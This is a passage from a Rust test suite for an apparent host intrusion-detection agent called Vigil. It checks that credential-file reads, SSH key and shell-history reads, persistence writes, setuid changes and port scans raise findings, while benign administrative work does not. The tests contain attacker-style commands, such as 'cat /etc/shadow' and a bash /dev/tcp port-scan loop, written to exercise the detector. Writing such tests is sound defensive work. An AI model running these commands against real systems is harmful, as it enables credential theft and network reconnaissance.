        nix::sys::signal::Signal::SIGHUP,
    )
    .unwrap();
    agent
        .vigil
        .wait_for_stderr("SIGHUP: rules refused", Duration::from_secs(30));
    let d = tmp_dir();
    let prog = d.path().join("vigil-marker");
    copy_exec("/bin/true", &prog);
    let since = now_ms();
    run(&mut Command::new(&prog));
    agent.expect("test-marker", "T1059", since, Instant::now(), |_| true);
}

#[test]
fn a_benign_workload_raises_no_finding() {
    root!("a_benign_workload_raises_no_finding");
    let agent = Agent::start_alone();
    let me = std::process::id();
    // Not under /tmp (a checkout can live there): running what one just compiled from a
    // temporary directory is exactly what exec-from-temp-dir reports.
    let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_else(|| "/root".into()));
    let base = home.join(".cache/vigil-tests");
    fs::create_dir_all(&base).unwrap();
    let work = tempfile::tempdir_in(&base).unwrap();
    let w = work.path();
    let since = now_ms();
    // Compiling and running the result.
    fs::write(
        w.join("hello.c"),
        "#include <stdio.h>\nint main(void){puts(\"hello\");return 0;}\n",
    )
    .unwrap();
    let out = run(Command::new("cc")
        .arg("-O1")
        .arg("-o")
        .arg(w.join("hello"))
        .arg(w.join("hello.c")));
    assert!(out.status.success(), "{out:?}");
    assert!(run(&mut Command::new(w.join("hello"))).status.success());
    // Scripts and ordinary shells with pipelines.
    fs::write(w.join("job.sh"), "#!/bin/sh\nfor i in 1 2 3; do echo $i | grep -c 2 | wc -l; done\nls / | sort | head -3 >/dev/null\n").unwrap();
    fs::set_permissions(w.join("job.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    assert!(run(&mut Command::new(w.join("job.sh"))).status.success());
    assert!(run(Command::new("python3").args([
        "-c",
        "import json,os; print(json.dumps(sorted(os.listdir('.'))))"
    ]))
    .status
    .success());
    assert!(run(Command::new("bash").args([
        "-c",
        "x=$(date +%s); echo $((x+1)) | cat > /dev/null; grep -q root /etc/passwd"
    ]))
    .status
    .success());
    // Package-manager-like churn: unpack, rename into place, remove.
    let root = w.join("pkgroot");
    for i in 0..200 {
        let dir = root.join(format!("usr/share/pkg{}", i % 10));
        fs::create_dir_all(&dir).unwrap();
        let tmp = dir.join(format!("file{i}.dpkg-new"));
        fs::write(&tmp, vec![b'x'; 512]).unwrap();
        fs::rename(&tmp, dir.join(format!("file{i}"))).unwrap();
    }
    assert!(run(Command::new("tar")
        .arg("-C")
        .arg(w)
        .arg("-czf")
        .arg(w.join("p.tgz"))
        .arg("pkgroot"))
    .status
    .success());
    fs::remove_dir_all(&root).unwrap();
    // A cron-like job: a detached shell that writes a timestamp.
    assert!(run(Command::new("setsid").args([
        "sh",
        "-c",
        &format!("date > {}/cron.out; sleep 0.1", w.display())
    ]))
    .status
    .success());
    agent.settle();
    // Findings caused by this workload: the test process or its descendants.
    let mine: Vec<Finding> = agent
        .findings(since)
        .into_iter()
        .filter(|f| {
            let ids = f.parent.iter().chain(f.ancestors.iter()).map(|p| p.pid);
            ids.chain(f.process.iter().map(|p| p.pid)).any(|p| p == me)
                || f.parent.as_ref().is_some_and(|p| p.pid == me)
        })
        .collect();
    assert!(
        mine.is_empty(),
        "a benign workload raised findings: {mine:#?}"
    );
    let stats = agent.stats();
    assert!(
        stats.process_events > 50,
        "the workload's processes were seen: {stats:?}"
    );
}

#[test]
fn an_exec_storm_through_the_agent_is_accounted_for() {
    root!("an_exec_storm_through_the_agent_is_accounted_for");
    const EXECS: u64 = 20_000;
    let agent = Agent::start(Some(
        "rules:\n  - id: test-storm\n    description: storm program ran\n    severity: info\n    mitre: [T1059]\n    events: [exec]\n    condition:\n      process.name: vigil-storm\n    dedup: 10m\n",
    ));
    let d = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let prog = d.path().join("vigil-storm");
    copy_exec("/bin/true", &prog);
    let before = agent.stats();
    let lost_before = before.losses.unwrap_or_default().process_ringbuf_full;
    let mut w = KillOnDrop(
        Command::new(WORKLOAD)
            .args(["exec", &EXECS.to_string(), prog.to_str().unwrap()])
            .stdin(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    writeln!(w.0.stdin.take().unwrap()).unwrap();
    assert!(w.0.wait().unwrap().success());
    // Until the agent has drained and counted everything: each exec matched or lost.
    vigil_tests::daemons::wait_until(
        "every exec matched or counted lost",
        Duration::from_secs(60),
        || {
            let a = agent.stats();
            let lost = a.losses.unwrap_or_default().process_ringbuf_full - lost_before;
            a.rule_matches.get("test-storm").copied().unwrap_or(0) + lost >= EXECS
        },
    );
    let after = agent.stats();
    let matched = after.rule_matches.get("test-storm").copied().unwrap_or(0);
    let lost = after.losses.unwrap_or_default().process_ringbuf_full - lost_before;
    eprintln!("exec storm: {EXECS} execs, {matched} matched, {lost} process events lost in the kernel, table {} (untracked {})", after.processes_tracked, after.processes_untracked);
    assert!(matched <= EXECS, "more matches than execs: {matched}");
    assert!(
        matched + lost >= EXECS,
        "{EXECS} execs: {matched} delivered + {lost} counted lost"
    );
    // One finding for the storm (dedup), not 20,000.
    let findings = agent.findings(0);
    assert_eq!(
        findings.iter().filter(|f| f.rule == "test-storm").count(),
        1
    );
    // Memory bounded: the exited processes leave the table, the agent stays small.
    let rss_kib = fs::read_to_string(format!("/proc/{}/status", agent.vigil.pid()))
        .unwrap()
        .lines()
        .find_map(|l| {
            l.strip_prefix("VmRSS:").map(|v| {
                v.trim()
                    .trim_end_matches(" kB")
                    .trim()
                    .parse::<u64>()
                    .unwrap()
            })
        })
        .unwrap();
    eprintln!("agent RSS after the storm: {} MiB", rss_kib / 1024);
    assert!(
        rss_kib < 96 * 1024,
        "agent RSS {rss_kib} KiB after the storm"
    );
}

#[test]
fn findings_reach_the_collector() {
    root!("findings_reach_the_collector");
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let addr = format!("127.0.0.1:{port}");
    let cdir = tempfile::tempdir().unwrap();
    let mut collector = KillOnDrop(
        collector_command()
            .args(["--listen", &addr, "--data-dir"])
            .arg(cdir.path())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut err = std::io::BufReader::new(collector.0.stderr.take().unwrap());
    let mut line = String::new();
    while std::io::BufRead::read_line(&mut err, &mut line).unwrap() > 0
        && !line.contains("listening")
    {
        line.clear();
    }
    std::thread::spawn(move || std::io::copy(&mut err, &mut std::io::sink()));
    let agent = Agent::start_with(None, Some(&addr));
    let d = tmp_dir();
    let prog = d.path().join("payload");
    copy_exec("/bin/true", &prog);
    let since = now_ms();
    let child = Command::new(&prog).spawn().unwrap();
    let pid = child.id();
    let _ = child.wait_with_output();
    agent.expect("exec-from-temp-dir", "T1204", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    // The batch of that interval is stored and acked a second or two later.
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let events = rt().block_on(async {
            let mut fleet =
                vigil_proto::v1::fleet_client::FleetClient::connect(format!("http://{addr}"))
                    .await
                    .expect("fleet");
            fleet
                .events(vigil_proto::v1::EventsRequest {
                    since_unix_ms: since,
                    limit: 1000,
                    page_token: String::new(),
                    ..Default::default()
                })
                .await
                .expect("events")
                .into_inner()
                .events
        });
        let stored = events.iter().any(|e| {
            matches!(&e.event, Some(vigil_proto::v1::fleet_event::Event::Finding(f))
                if f.rule == "exec-from-temp-dir" && pid_of(f) == pid && f.mitre.contains(&"T1204".to_string()))
        });
        if stored {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the finding never reached the collector: {events:?}"
        );
        std::thread::sleep(Duration::from_millis(300));
    }
}

/// The findings of `rule` since `since` raised by process `pid`.
fn findings_of(agent: &Agent, rule: &str, since: i64, pid: u32) -> Vec<Finding> {
    agent
        .findings(since)
        .into_iter()
        .filter(|f| f.rule == rule && pid_of(f) == pid)
        .collect()
}

/// Runs `command` (exec'd by `sh -c`, so it keeps the pid) and returns its pid once it
/// has finished.
fn sh(command: &str) -> u32 {
    let child = Command::new("sh")
        .args(["-c", &format!("exec {command}")])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    let _ = child.wait_with_output().unwrap();
    pid
}

/// `cat /etc/shadow` (reading the real file changes nothing; it is what an attacker
/// does) is a credential-file-read finding for that cat, an open for read.
fn shadow_read_is_found(agent: &Agent) {
    let since = now_ms();
    let pid = sh("cat /etc/shadow");
    let f = agent.expect(
        "credential-file-read",
        "T1003.008",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["path"], "/etc/shadow");
    assert_eq!(f.details["operation"], "open_for_read");
    assert_eq!(f.process.unwrap().name, "cat");
}

#[test]
fn credential_files_read_by_anything_but_the_account_tools() {
    root!("credential_files_read_by_anything_but_the_account_tools");
    let agent = Agent::start(None);
    shadow_read_is_found(&agent);
    // The nearest benign acts: the account tools reading it, and anything reading
    // /etc/passwd (world-readable, not watched).
    let since = now_ms();
    let chage = Command::new("chage")
        .args(["-l", "root"])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let chage_pid = chage.id();
    assert!(chage.wait_with_output().unwrap().status.success());
    let passwd = sh("cat /etc/passwd");
    agent.settle();
    assert!(findings_of(&agent, "credential-file-read", since, chage_pid).is_empty());
    assert!(findings_of(&agent, "credential-file-read", since, passwd).is_empty());
    // The read-watched file is followed when it is replaced (a new inode), as the
    // account tools do: here a scratch copy named by a test rule, never the real one.
    let scratch =
        dir_on_device_of("/etc").join(format!("vigil-test-gshadow-{}", std::process::id()));
    let scratch = RemoveOnDrop(scratch);
    fs::write(&scratch.0, "root:*::\n").unwrap();
    let path = scratch.0.to_str().unwrap().to_string();
    drop(agent);
    let agent = Agent::start(Some(&format!(
        "rules:\n  - id: test-credential-read\n    description: the test's scratch file was read\n    severity: high\n    mitre: [T1003.008]\n    events: [file_read]\n    condition:\n      path: {path}\n    dedup: 0s\n  - id: test-credential-write\n    description: the test's scratch file was written\n    severity: low\n    mitre: [T1098]\n    events: [file_write]\n    condition:\n      path: {path}\n    dedup: 0s\n"
    )));
    let staged = format!("{path}.new");
    fs::write(&staged, "root:!::\n").unwrap();
    let since = now_ms();
    assert!(run(Command::new("mv").arg(&staged).arg(&path))
        .status
        .success());
    agent.expect(
        "test-credential-write",
        "T1098",
        since,
        Instant::now(),
        |f| f.details.get("path") == Some(&path),
    );
    agent.settle();
    let since = now_ms();
    let pid = sh(&format!("cat {path}"));
    agent.expect(
        "test-credential-read",
        "T1003.008",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
}

/// With the latency histograms off, sys_exit returns at once for every syscall the
/// checks do not watch (it reads the number from pt_regs, no task storage): the checks
/// made at a watched syscall's exit (the open's result, a set-id call's outcome) still
/// see it, and the benign neighbours stay silent.
#[test]
fn with_syscall_latency_off_the_checks_at_a_syscalls_exit_still_fire() {
    root!("with_syscall_latency_off_the_checks_at_a_syscalls_exit_still_fire");
    let agent = Agent::start_configured("[probes]\nsyscalls = false\n\n");
    shadow_read_is_found(&agent);
    let since = now_ms();
    let passwd = sh("cat /etc/passwd");
    agent.settle();
    assert!(findings_of(&agent, "credential-file-read", since, passwd).is_empty());
    // A set-id call's outcome is read at its exit.
    escalation_by_nobody_is_found(&agent);
    // The agent has sampled by now (its findings were read): the histograms were off.
    let out = run(Command::new(vigil_tests::vigil_bin())
        .args(["stats", "--json", "--socket"])
        .arg(&agent.socket));
    let stats: serde_json::Value = serde_json::from_slice(&out.stdout).expect("stats JSON");
    assert_eq!(
        vigil_tests::probe_state(&stats, "syscall-latency"),
        "not requested",
        "{stats}"
    );
}

#[test]
fn ssh_private_keys_and_shell_history_read_by_other_programs() {
    root!("ssh_private_keys_and_shell_history_read_by_other_programs");
    let me = std::process::id();
    // Made before the agent starts (a directory made later is picked up at the next
    // rescan: see the README).
    let made_ssh = !Path::new("/root/.ssh").exists();
    fs::create_dir_all("/root/.ssh").unwrap();
    fs::set_permissions("/root/.ssh", fs::Permissions::from_mode(0o700)).unwrap();
    let key = RemoveOnDrop(PathBuf::from(format!("/root/.ssh/id_vigil_test_{me}")));
    let public = RemoveOnDrop(PathBuf::from(format!("/root/.ssh/id_vigil_test_{me}.pub")));
    let out = run(Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(&key.0));
    assert!(out.status.success(), "{out:?}");
    let history = PathBuf::from("/root/.bash_history");
    let made_history = !history.exists();
    if made_history {
        fs::write(&history, "echo hello\n").unwrap();
    }
    let agent = Agent::start(None);
    let key_path = key.0.to_str().unwrap().to_string();
    let since = now_ms();
    let pid = sh(&format!("cat {key_path}"));
    let f = agent.expect(
        "ssh-private-key-read",
        "T1552.004",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
    assert_eq!(f.details["path"], key_path);
    // The SSH tools reading it, and anyone reading the public half: nothing.
    let since = now_ms();
    let keygen = Command::new("ssh-keygen")
        .args(["-y", "-f", &key_path])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let keygen_pid = keygen.id();
    assert!(keygen.wait_with_output().unwrap().status.success());
    let pub_pid = sh(&format!("cat {}", public.0.display()));
    // History: another program reading it is told; bash reading its own is not.
    let hist_pid = sh("grep -c . /root/.bash_history");
    let f = agent.expect(
        "shell-history-read",
        "T1552.003",
        since,
        Instant::now(),
        |f| pid_of(f) == hist_pid,
    );
    assert_eq!(f.details["path"], "/root/.bash_history");
    let bash = Command::new("bash")
        .args(["-c", "HISTFILE=/root/.bash_history; history -r; true"])
        .spawn()
        .unwrap();
    let bash_pid = bash.id();
    assert!(bash.wait_with_output().unwrap().status.success());
    agent.settle();
    assert!(findings_of(&agent, "ssh-private-key-read", since, keygen_pid).is_empty());
    assert!(findings_of(&agent, "ssh-private-key-read", since, pub_pid).is_empty());
    assert!(findings_of(&agent, "shell-history-read", since, bash_pid).is_empty());
    drop(agent);
    drop(key);
    drop(public);
    if made_history {
        let _ = fs::remove_file(&history);
    }
    if made_ssh {
        let _ = fs::remove_dir("/root/.ssh");
    }
}

#[test]
fn persistence_in_shell_start_up_boot_scripts_pam_trusted_cas_and_python_hooks() {
    root!("persistence_in_shell_start_up_boot_scripts_pam_trusted_cas_and_python_hooks");
    let me = std::process::id();
    let python = [
        "/usr/local/lib/python3.11/dist-packages",
        "/usr/lib/python3/dist-packages",
    ]
    .into_iter()
    .find(|d| Path::new(d).is_dir())
    .expect("a Python dist-packages directory");
    let cases = [
        (
            format!("/etc/profile.d/vigil-test-{me}.sh"),
            "persistence-shell-startup",
            "T1546.004",
        ),
        (
            "/root/.bashrc".to_string(),
            "persistence-shell-startup",
            "T1546.004",
        ),
        (
            format!("/etc/init.d/vigil-test-{me}"),
            "persistence-boot-script",
            "T1037.004",
        ),
        (
            format!("/etc/pam.d/vigil-test-{me}"),
            "pam-tampering",
            "T1556.003",
        ),
        (
            format!("/usr/local/share/ca-certificates/vigil-test-{me}.crt"),
            "trusted-ca-added",
            "T1553.004",
        ),
        (
            format!("{python}/vigil-test-{me}.pth"),
            "python-startup-hook",
            "T1546.018",
        ),
    ];
    for (path, _, _) in &cases {
        let dir = Path::new(path).parent().unwrap();
        assert!(dir.is_dir(), "{} must exist on this host", dir.display());
    }
    let agent = Agent::start(None);
    for (path, rule, mitre) in &cases {
        // Opened for appending and closed unchanged (made and removed if it wasn't there).
        let since = now_ms();
        let pid = touch_for_write(path);
        let f = agent.expect(rule, mitre, since, Instant::now(), |f| pid_of(f) == pid);
        assert_eq!(&f.details["path"], path);
        // The nearest benign act: reading it.
        if Path::new(path).exists() {
            let since = now_ms();
            let pid = sh(&format!("cat {path}"));
            agent.settle();
            assert!(findings_of(&agent, rule, since, pid).is_empty(), "{path}");
        }
    }
    // A file next to them but of no consequence: nothing.
    let since = now_ms();
    let pid = touch_for_write(&format!("/etc/vigil-test-elsewhere-{me}"));
    agent.settle();
    for (_, rule, _) in &cases {
        assert!(findings_of(&agent, rule, since, pid).is_empty());
    }
}

/// A real Debian package with a maintainer script that writes where the persistence
/// rules look (a profile.d script, an init script, a .pth file, a CA), installed and
/// purged with dpkg: nothing is raised (the rules leave packages alone).
#[test]
fn a_package_installed_and_purged_with_dpkg_raises_nothing() {
    root!("a_package_installed_and_purged_with_dpkg_raises_nothing");
    let me = std::process::id();
    let name = format!("vigil-test-benign-{me}");
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("pkg");
    for d in [
        "DEBIAN",
        "etc/profile.d",
        "etc/init.d",
        "usr/local/share/ca-certificates",
    ] {
        fs::create_dir_all(root.join(d)).unwrap();
    }
    fs::write(
        root.join("DEBIAN/control"),
        format!("Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: Vigil tests <tests@vigil.invalid>\nDescription: a package Vigil's detection tests install\n"),
    )
    .unwrap();
    let postinst = format!(
        "#!/bin/sh\nset -e\necho '# made by postinst' > /etc/profile.d/{name}-postinst.sh\n"
    );
    let postrm = format!("#!/bin/sh\nset -e\nrm -f /etc/profile.d/{name}-postinst.sh\n");
    for (f, text) in [("postinst", postinst), ("postrm", postrm)] {
        fs::write(root.join("DEBIAN").join(f), text).unwrap();
        fs::set_permissions(
            root.join("DEBIAN").join(f),
            fs::Permissions::from_mode(0o755),
        )
        .unwrap();
    }
    fs::write(root.join(format!("etc/profile.d/{name}.sh")), "# shipped\n").unwrap();
    fs::write(root.join(format!("etc/init.d/{name}")), "#!/bin/sh\n").unwrap();
    fs::write(
        root.join(format!("usr/local/share/ca-certificates/{name}.crt")),
        "not a certificate\n",
    )
    .unwrap();
    let deb = work.path().join(format!("{name}.deb"));
    let out = run(Command::new("dpkg-deb")
        .args(["--root-owner-group", "--build"])
        .arg(&root)
        .arg(&deb));
    assert!(out.status.success(), "{out:?}");
    let agent = Agent::start(None);
    let since = now_ms();
    let out = run(Command::new("dpkg").arg("-i").arg(&deb));
    assert!(out.status.success(), "{out:?}");
    assert!(Path::new(&format!("/etc/profile.d/{name}-postinst.sh")).exists());
    let out = run(Command::new("dpkg").args(["--purge", &name]));
    assert!(out.status.success(), "{out:?}");
    agent.settle();
    let raised: Vec<_> = agent
        .findings(since)
        .into_iter()
        .filter(|f| f.details.get("path").is_some_and(|p| p.contains(&name)))
        .collect();
    assert!(
        raised.is_empty(),
        "dpkg's work raised findings: {raised:#?}"
    );
    // The rules did see it: the same write without dpkg is a finding.
    let since = now_ms();
    let pid = touch_for_write(&format!("/etc/profile.d/{name}.sh"));
    agent.expect(
        "persistence-shell-startup",
        "T1546.004",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
}

/// Whether `f` was raised by process `pid` or anything it started.
fn caused_by(f: &Finding, pid: u32) -> bool {
    f.process.iter().map(|p| p.pid).any(|p| p == pid)
        || f.parent
            .iter()
            .chain(f.ancestors.iter())
            .any(|p| p.pid == pid)
}

/// The administrators' own tools doing what the persistence and account rules watch,
/// for real: adduser/deluser make and remove a system user, an extra CA is made trusted
/// by update-ca-certificates, and a configuration management run (ansible-playbook
/// against localhost) writes a profile.d script, a cron.d file and a systemd unit,
/// creates and deletes a user, then removes what it wrote. None of it raises a finding;
/// dropping the CA into /usr/local/share/ca-certificates by hand does (trusted-ca-added
/// documents why: that write is the technique itself), and so does the same profile.d
/// write by a plain shell.
#[test]
fn account_tools_a_new_ca_and_a_configuration_run_raise_nothing() {
    root!("account_tools_a_new_ca_and_a_configuration_run_raise_nothing");
    let me = std::process::id();
    let work = tempfile::tempdir().unwrap();
    let w = work.path();
    let agent = Agent::start(None);
    let spawn = |program: &str, args: &[&str]| -> (u32, std::process::Output) {
        let child = Command::new(program)
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let pid = child.id();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{program} {args:?}: {out:?}");
        (pid, out)
    };
    let mut tools = Vec::new();
    let since = now_ms();

    // adduser and deluser.
    let user = format!("vgta{}", me % 100_000);
    tools.push(
        spawn(
            "adduser",
            &["--quiet", "--system", "--no-create-home", &user],
        )
        .0,
    );
    tools.push(spawn("deluser", &["--quiet", &user]).0);

    // An extra CA, trusted the Debian way.
    let (key, crt) = (w.join("ca.key"), w.join("ca.crt"));
    spawn(
        "openssl",
        &[
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-days",
            "1",
            "-subj",
            "/CN=Vigil test CA",
            "-keyout",
            key.to_str().unwrap(),
            "-out",
            crt.to_str().unwrap(),
        ],
    );
    let anchor = PathBuf::from(format!(
        "/usr/local/share/ca-certificates/vigil-test-{me}.crt"
    ));
    struct Remove(PathBuf);
    impl Drop for Remove {
        fn drop(&mut self) {
            let _ = fs::remove_file(&self.0);
            let _ = Command::new("update-ca-certificates")
                .arg("--fresh")
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status();
        }
    }
    let _anchor = Remove(anchor.clone());
    let since_copy = now_ms();
    let (cp, _) = spawn("cp", &[crt.to_str().unwrap(), anchor.to_str().unwrap()]);
    let (update, out) = spawn("update-ca-certificates", &[]);
    tools.push(update);
    // "N added": ours, and any other CA the host had waiting in the same directory.
    let added = String::from_utf8_lossy(&out.stdout)
        .split(" added")
        .next()
        .and_then(|s| s.rsplit(|c: char| !c.is_ascii_digit()).next())
        .and_then(|n| n.parse::<u32>().ok())
        .unwrap_or(0);
    assert!(added >= 1, "update-ca-certificates took the CA: {out:?}");
    let bundle = fs::read_to_string("/etc/ssl/certs/ca-certificates.crt").unwrap();
    let pem = fs::read_to_string(&crt).unwrap();
    assert!(
        bundle.contains(pem.trim()),
        "the CA is in the system bundle"
    );
    agent.expect(
        "trusted-ca-added",
        "T1553.004",
        since_copy,
        Instant::now(),
        |f| pid_of(f) == cp,
    );

    // A configuration management run.
    let play = w.join("site.yml");
    let name = format!("vigil-test-cm-{me}");
    fs::write(
        &play,
        format!(
            "- hosts: localhost
  connection: local
  gather_facts: false
  tasks:
    - copy: {{dest: /etc/profile.d/{name}.sh, content: \"# managed\\n\", mode: \"0644\"}}
    - copy: {{dest: /etc/cron.d/{name}, content: \"5 * * * * root true\\n\", mode: \"0644\"}}
    - copy: {{dest: /etc/systemd/system/{name}.service, content: \"[Service]\\nExecStart=/bin/true\\n\", mode: \"0644\"}}
    - user: {{name: vgcm{n}, system: true, create_home: false}}
    - user: {{name: vgcm{n}, state: absent}}
    - file: {{path: /etc/profile.d/{name}.sh, state: absent}}
    - file: {{path: /etc/cron.d/{name}, state: absent}}
    - file: {{path: /etc/systemd/system/{name}.service, state: absent}}
",
            n = me % 100_000
        ),
    )
    .unwrap();
    let (ansible, out) = spawn(
        "ansible-playbook",
        &["-i", "localhost,", play.to_str().unwrap()],
    );
    tools.push(ansible);
    let recap = String::from_utf8_lossy(&out.stdout);
    assert!(
        recap.contains("changed=8") && recap.contains("failed=0"),
        "the run made its eight changes: {recap}"
    );
    agent.settle();
    let raised: Vec<_> = agent
        .findings(since)
        .into_iter()
        .filter(|f| {
            tools.iter().any(|&t| caused_by(f, t))
                || f.details
                    .values()
                    .any(|v| v.contains(&name) || v.contains(&user))
        })
        .collect();
    assert!(
        raised.is_empty(),
        "the administrators' tools raised findings: {raised:#?}"
    );
    // The rules did watch those paths: the same profile.d write by a shell is raised.
    let since = now_ms();
    let pid = touch_for_write(&format!("/etc/profile.d/{name}.sh"));
    let _ = fs::remove_file(format!("/etc/profile.d/{name}.sh"));
    agent.expect(
        "persistence-shell-startup",
        "T1546.004",
        since,
        Instant::now(),
        |f| pid_of(f) == pid,
    );
}

#[test]
fn set_id_bits_and_file_capabilities_set_on_a_program() {
    root!("set_id_bits_and_file_capabilities_set_on_a_program");
    let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_else(|| "/root".into()));
    let base = home.join(".cache/vigil-tests");
    fs::create_dir_all(&base).unwrap();
    let work = tempfile::tempdir_in(&base).unwrap();
    let prog = work.path().join("prog");
    fs::copy("/bin/true", &prog).unwrap();
    let prog_path = prog.to_str().unwrap().to_string();
    let agent = Agent::start(None);
    // chmod u+s by absolute path (coreutils' fchmodat).
    let since = now_ms();
    let pid = sh(&format!("chmod u+s {prog_path}"));
    let f = agent.expect("setuid-bit-set", "T1548.001", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    assert_eq!(f.details["path"], prog_path);
    assert_eq!(f.details["mode"], "4755");
    assert_eq!(f.details["file_type"], "file");
    // g+s through a relative path, from the program's directory.
    let since = now_ms();
    let child = Command::new("chmod")
        .args(["g+s", "prog"])
        .current_dir(work.path())
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait_with_output().unwrap().status.success());
    let f = agent.expect("setuid-bit-set", "T1548.001", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    assert!(f.details["mode"].starts_with('6'), "{f:?}");
    assert!(f.details["path"].ends_with("prog"), "{f:?}");
    // fchmod on an open file (python's os.fchmod).
    let since = now_ms();
    let pid = sh(&format!(
        "python3 -c \"import os; fd = os.open('{prog_path}', os.O_RDONLY); os.fchmod(fd, 0o2755)\""
    ));
    agent.expect("setuid-bit-set", "T1548.001", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    // File capabilities with setcap.
    let since = now_ms();
    let pid = sh(&format!("setcap cap_net_raw+ep {prog_path}"));
    let f = agent.expect("file-capability-set", "T1548", since, Instant::now(), |f| {
        pid_of(f) == pid
    });
    assert_eq!(f.details["path"], prog_path);
    // The nearest benign acts: an ordinary chmod, a set-group-ID directory (shared
    // directories are made so), another extended attribute.
    let dir = work.path().join("shared");
    fs::create_dir(&dir).unwrap();
    let since = now_ms();
    let plain = sh(&format!("chmod 0755 {prog_path}"));
    let shared = sh(&format!("chmod g+s {}", dir.display()));
    let xattr = sh(&format!(
        "python3 -c \"import os; os.setxattr('{prog_path}', 'user.vigil', b'1')\""
    ));
    agent.settle();
    for pid in [plain, shared, xattr] {
        assert!(
            findings_of(&agent, "setuid-bit-set", since, pid).is_empty(),
            "{pid}"
        );
        assert!(
            findings_of(&agent, "file-capability-set", since, pid).is_empty(),
            "{pid}"
        );
    }
}

/// A port scan from one shell is one finding with its count and a sample of the ports,
/// not one finding per port.
#[test]
fn a_scan_from_one_process_is_one_finding_with_its_count_and_a_sample_of_targets() {
    root!("a_scan_from_one_process_is_one_finding_with_its_count_and_a_sample_of_targets");
    let agent = Agent::start(Some(
        "rules:\n  - id: test-scan\n    description: bash connected out\n    severity: low\n    mitre: [T1046]\n    events: [connect]\n    condition:\n      process.name: bash\n    dedup: 2s\n",
    ));
    let since = now_ms();
    // 200 ports on loopback in a namespace of its own: each connect is refused at once.
    let out = in_own_netns(
        "bash -c 'for p in $(seq 20001 20200); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true'",
    );
    assert!(out.status.success(), "{out:?}");
    let done = Instant::now();
    let mut seen = Vec::new();
    vigil_tests::daemons::wait_until(
        "the scan's grouped finding",
        Duration::from_secs(30),
        || {
            seen = agent
                .findings(since)
                .into_iter()
                .filter(|f| f.rule == "test-scan")
                .collect();
            seen.iter().any(|f| f.count > 1)
        },
    );
    eprintln!("grouped after {:?}", done.elapsed());
    // The first connect at once, the rest folded into the window's total.
    let firsts: Vec<_> = seen.iter().filter(|f| f.count == 1).collect();
    assert_eq!(
        firsts.len(),
        1,
        "one finding at the first connect: {seen:#?}"
    );
    let total = seen.iter().find(|f| f.count > 1).unwrap();
    assert_eq!(total.count, 200, "{total:?}");
    let targets: Vec<&str> = total.details["targets"].split(',').collect();
    assert_eq!(targets.len(), 16, "{total:?}");
    assert!(
        targets.iter().all(|t| t.starts_with("127.0.0.1:20")),
        "{targets:?}"
    );
    assert_eq!(total.details["targets_not_listed"], "184", "{total:?}");
}

/// One process connecting to 150 distinct ports within seconds is a `port-scan`
/// finding (counted in the kernel per process), once; one connecting to 60 is not.
#[test]
fn a_process_connecting_to_many_distinct_ports_is_a_port_scan() {
    root!("a_process_connecting_to_many_distinct_ports_is_a_port_scan");
    let agent = Agent::start(None);
    let since = now_ms();
    // In one bash process (no subshell: `:` with a redirection runs in the shell
    // itself), each connect refused at once on the namespace's loopback.
    let scan = |ports: u32| {
        let out = in_own_netns(&format!(
            "bash -c 'echo $$; for p in $(seq 30001 {}); do {{ : 3<>/dev/tcp/127.0.0.1/$p; }} 2>/dev/null; done; true'",
            30000 + ports
        ));
        assert!(out.status.success(), "{out:?}");
        String::from_utf8_lossy(&out.stdout)
            .trim()
            .parse::<u32>()
            .expect("the scanner's pid")
    };
    let quiet = scan(60);
    let loud = scan(150);
    let mut seen = Vec::new();
    vigil_tests::daemons::wait_until("the port-scan finding", Duration::from_secs(30), || {
        seen = agent
            .findings(since)
            .into_iter()
            .filter(|f| f.rule == "port-scan")
            .collect();
        !seen.is_empty()
    });
    agent.settle();
    let seen: Vec<_> = agent
        .findings(since)
        .into_iter()
        .filter(|f| f.rule == "port-scan")
        .collect();
    assert_eq!(seen.len(), 1, "one finding for the scan: {seen:#?}");
    let f = &seen[0];
    assert_eq!(pid_of(f), loud, "{f:?}");
    let distinct: u32 = f.details["distinct_ports"].parse().unwrap();
    assert!((100..=150).contains(&distinct), "{f:?}");
    assert_eq!(f.details["last_remote_addr"], "127.0.0.1", "{f:?}");
    assert!(f.details["last_port"].starts_with("30"), "{f:?}");
    assert!(f.mitre.contains(&"T1046".to_string()), "{f:?}");
    assert!(
        seen.iter().all(|f| pid_of(f) != quiet),
        "60 ports is not a scan"
    );
}

#[test]
fn exec_from_a_directory_named_to_hide() {
    root!("exec_from_a_directory_named_to_hide");
    let home = PathBuf::from(std::env::var_os("HOME").unwrap_or_else(|| "/root".into()));
    let base = home.join(".cache/vigil-tests");
